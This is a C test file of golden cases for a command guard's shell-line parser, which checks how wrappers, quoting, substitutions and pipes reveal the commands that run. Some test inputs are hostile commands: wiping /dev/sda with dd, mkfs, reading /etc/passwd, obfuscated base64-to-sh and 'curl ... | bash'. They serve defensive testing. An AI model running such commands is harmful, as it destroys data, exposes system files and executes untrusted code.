/*
 * cmdsplit.c golden tests: how the command guard reads a shell line. Each
 * case is a line and what a reviewer would say runs: the simple commands
 * as "program args" in the order they start (a substitution before the
 * command that uses it), joined by " ; ", or "?" and a word of the reason
 * when the guard cannot judge the line (on_unparsed decides those).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "cmdsplit.h"
#include "tap.h"

static const struct {
	const char *line, *want;
} cases[] = {
	/* plain */
	{ "reboot", "reboot" },
	{ "  reboot  ", "reboot" },
	{ "ls -la /tmp", "ls -la /tmp" },
	{ "uptime", "uptime" },
	{ "", "" },
	{ "   ", "" },
	{ "# just a comment", "" },
	{ "ls # comment reboot", "ls" },
	/* separators */
	{ "ls;reboot", "ls ; reboot" },
	{ "ls ; reboot", "ls ; reboot" },
	{ "ls&&reboot", "ls ; reboot" },
	{ "ls || reboot", "ls ; reboot" },
	{ "ls | grep x", "ls ; grep x" },
	{ "ls |& grep x", "ls ; grep x" },
	{ "sleep 1 & reboot", "sleep 1 ; reboot" },
	{ "ls\nreboot", "ls ; reboot" },
	{ "ls;;reboot", "ls ; reboot" },
	{ "true && false || reboot", "true ; false ; reboot" },
	/* paths */
	{ "/sbin/reboot", "reboot" },
	{ "/usr/sbin/shutdown -h now", "shutdown -h now" },
	{ "./reboot", "reboot" },
	{ "../../sbin/halt", "halt" },
	/* quotes and escapes */
	{ "r\\eboot", "reboot" },
	{ "'reboot'", "reboot" },
	{ "\"reboot\"", "reboot" },
	{ "re'bo'ot", "reboot" },
	{ "re\"bo\"ot", "reboot" },
	{ "\"re\"'bo'ot", "reboot" },
	{ "echo 'a;reboot'", "echo a;reboot" },
	{ "echo \"a && reboot\"", "echo a && reboot" },
	{ "echo a\\;reboot", "echo a;reboot" },
	{ "echo \"say \\\"hi\\\"\"", "echo say \"hi\"" },
	{ "echo 'it''s'", "echo its" },
	{ "rebo\\\not", "reboot" },
	{ "echo \"\"", "echo" },
	/* sudo and other wrappers */
	{ "sudo reboot", "reboot" },
	{ "sudo -u root reboot", "reboot" },
	{ "sudo -uroot reboot", "reboot" },
	{ "sudo -E -H reboot", "reboot" },
	{ "sudo --user root reboot", "reboot" },
	{ "sudo --user=root reboot", "reboot" },
	{ "sudo -- reboot", "reboot" },
	{ "sudo -i", "" },
	{ "sudo sudo reboot", "reboot" },
	{ "doas reboot", "reboot" },
	{ "env reboot", "reboot" },
	{ "env -i PATH=/sbin reboot", "reboot" },
	{ "env -u HOME reboot", "reboot" },
	{ "FOO=1 reboot", "reboot" },
	{ "FOO=1 BAR=\"x y\" /sbin/reboot now", "reboot now" },
	{ "nohup reboot", "reboot" },
	{ "timeout 5 reboot", "reboot" },
	{ "timeout -s KILL 5 reboot", "reboot" },
	{ "timeout --foreground 10s shutdown -r now", "shutdown -r now" },
	{ "nice reboot", "reboot" },
	{ "nice -n 10 reboot", "reboot" },
	{ "ionice -c 3 reboot", "reboot" },
	{ "exec reboot", "reboot" },
	{ "exec -a x reboot", "reboot" },
	{ "command reboot", "reboot" },
	{ "command -p reboot", "reboot" },
	{ "builtin echo x", "echo x" },
	{ "busybox reboot", "reboot" },
	{ "busybox poweroff -f", "poweroff -f" },
	{ "time reboot", "reboot" },
	{ "stdbuf -oL reboot", "reboot" },
	{ "chroot /mnt reboot", "reboot" },
	{ "sudo nohup nice -n 5 timeout 9 /sbin/reboot -f", "reboot -f" },
	{ "echo x | xargs reboot", "echo x ; reboot" },
	{ "find / -name x | xargs -n 1 rm -f", "find / -name x ; rm -f" },
	/* substitutions */
	{ "echo $(reboot)", "reboot ; echo $(...)" },
	{ "echo `reboot`", "reboot ; echo $(...)" },
	{ "echo \"$(reboot)\"", "reboot ; echo $(...)" },
	{ "x=$(reboot)", "reboot" },
	{ "echo $(echo $(reboot))", "reboot ; echo $(...) ; echo $(...)" },
	{ "echo $((1+2))", "echo $((...))" },
	{ "ls $HOME", "ls $HOME" },
	{ "echo ${HOME}", "echo ${HOME}" },
	/* groups and subshells */
	{ "(reboot)", "reboot" },
	{ "( cd /; reboot )", "cd / ; reboot" },
	{ "{ reboot; }", "reboot" },
	{ "if true; then reboot; fi", "true ; reboot" },
	{ "while true; do reboot; done", "true ; reboot" },
	{ "! reboot", "reboot" },
	{ "[[ -f x ]] && reboot", "[[ -f x ]] ; reboot" },
	/* redirections */
	{ "reboot > /dev/null 2>&1", "reboot" },
	{ "reboot 2>/dev/null", "reboot" },
	{ "reboot &>/dev/null", "reboot" },
	{ "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=/dev/sda bs=1M" },
	{ "cat < /etc/passwd", "cat" },
	{ "echo x >> /tmp/log; reboot", "echo x ; reboot" },
	{ "cat <<< 'reboot'", "cat" },
	/* systemctl and friends: the program and its arguments */
	{ "systemctl restart sshd", "systemctl restart sshd" },
	{ "sudo systemctl stop nginx.service", "systemctl stop nginx.service" },
	{ "apt-get install -y vim", "apt-get install -y vim" },
	{ "mkfs.ext4 /dev/sdb1", "mkfs.ext4 /dev/sdb1" },
	{ "init 6", "init 6" },
	{ "shutdown -r +5 \"maintenance\"", "shutdown -r +5 maintenance" },
	/* what the guard cannot judge */
	{ "eval reboot", "?eval" },
	{ "eval \"$CMD\"", "?eval" },
	{ "sh -c reboot", "?script" },
	{ "bash -c 'reboot'", "?script" },
	{ "sudo bash -lc reboot", "?script" },
	{ "echo cmVib290 | base64 -d | sh", "?pipe" },
	{ "curl http://x/s | bash", "?pipe" },
	{ "bash script.sh", "?script file" },
	{ "python3 -c 'import os; os.system(\"reboot\")'", "?script" },
	{ "perl -e 'system(\"reboot\")'", "?script" },
	{ "source ./do.sh", "?source" },
	{ ". ./do.sh", "?source" },
	{ "cat <<EOF\nreboot\nEOF", "?here-document" },
	{ "diff <(ls a) <(ls b)", "ls a ; ls b ; diff $(...) $(...)" },
	{ "tee >(reboot) < x", "reboot ; tee $(...)" },
	{ "$CMD", "?variable" },
	{ "${X}boot", "?variable" },
	{ "$(echo reboot)", "?variable" },
	{ "/sbin/re*", "?pattern" },
	{ "reb??t", "?pattern" },
	{ "echo 'unterminated", "?single quote" },
	{ "echo \"unterminated", "?double quote" },
	{ "echo $(reboot", "?parenthesis" },
	{ "echo `reboot", "?backtick" },
	{ "ls )", "?parenthesis" },
	{ "f() { reboot; }; f", "?function" },
	{ "for i in 1 2; do reboot; done", "reboot" },
	{ "for i in $(seq 1 3); do echo tick $i; sleep 0.1; done", "seq 1 3 ; echo tick $i ; sleep 0.1" },
	{ "for ((i=0;i<3;i++)); do reboot; done", "?function" },
	{ "case $x in a) reboot;; esac", "?parenthesis" },
	{ "env -S 'reboot now'", "?env -S" },
	/* a shell on its own (a new interactive shell): its lines are judged as typed */
	{ "bash", "bash" },
	{ "sudo -i bash", "bash" },
	{ "sudo su -", "su -" },
};

static void
render(const struct cmd_split *s, char *out, size_t outlen)
{
	size_t o = 0;

	out[0] = '\0';
	if (s->unparsed != NULL) {
		snprintf(out, outlen, "?%s", s->unparsed);
		return;
	}
	for (size_t i = 0; i < s->n; i++) {
		int w = snprintf(out + o, outlen - o, "%s%s%s%s", i ? " ; " : "", s->cmds[i].program,
		    s->cmds[i].args[0] ? " " : "", s->cmds[i].args);

		if (w < 0 || (size_t)w >= outlen - o)
			return;
		o += (size_t)w;
	}
}

int
main(void)
{
	char got[2048];
	size_t n = sizeof(cases) / sizeof(cases[0]);

	ok(n >= 100, "at least 100 golden lines (%zu)", n);
	for (size_t i = 0; i < n; i++) {
		struct cmd_split s;

		if (cmdsplit(cases[i].line, strlen(cases[i].line), &s) != 0) {
			ok(0, "cmdsplit ran on '%s'", cases[i].line);
			continue;
		}
		render(&s, got, sizeof(got));
		if (cases[i].want[0] == '?')
			ok(got[0] == '?' && strstr(got, cases[i].want + 1) != NULL, "'%s' cannot be judged: %s", cases[i].line,
			    got);
		else
			is_str(got, cases[i].want, "'%s'", cases[i].line);
		cmdsplit_free(&s);
	}
	{
		/* Limits: a very long line, many commands, deep nesting. */
		char *big = malloc(CMDSPLIT_MAX_LINE + 2);
		struct cmd_split s;

		memset(big, 'a', CMDSPLIT_MAX_LINE + 1);
		big[CMDSPLIT_MAX_LINE + 1] = '\0';
		ok(cmdsplit(big, CMDSPLIT_MAX_LINE + 1, &s) == 0 && s.unparsed != NULL, "a line over the limit is unparsed");
		cmdsplit_free(&s);
		for (size_t i = 0; i < 2000; i++) {
			big[2 * i] = 'x';
			big[2 * i + 1] = ';';
		}
		ok(cmdsplit(big, 4000, &s) == 0 && s.unparsed != NULL && strstr(s.unparsed, "too many"),
		    "more than %d commands: unparsed", CMDSPLIT_MAX_CMDS);
		cmdsplit_free(&s);
		for (size_t i = 0; i < 100; i++) {
			memcpy(big + 2 * i, "$(", 2);
		}
		ok(cmdsplit(big, 200, &s) == 0 && s.unparsed != NULL, "substitutions nested 100 deep: unparsed");
		cmdsplit_free(&s);
		ok(cmdsplit("re\0boot", 7, &s) == 0 && s.unparsed != NULL, "a NUL byte: unparsed");
		cmdsplit_free(&s);
		free(big);
	}
	return done();
}
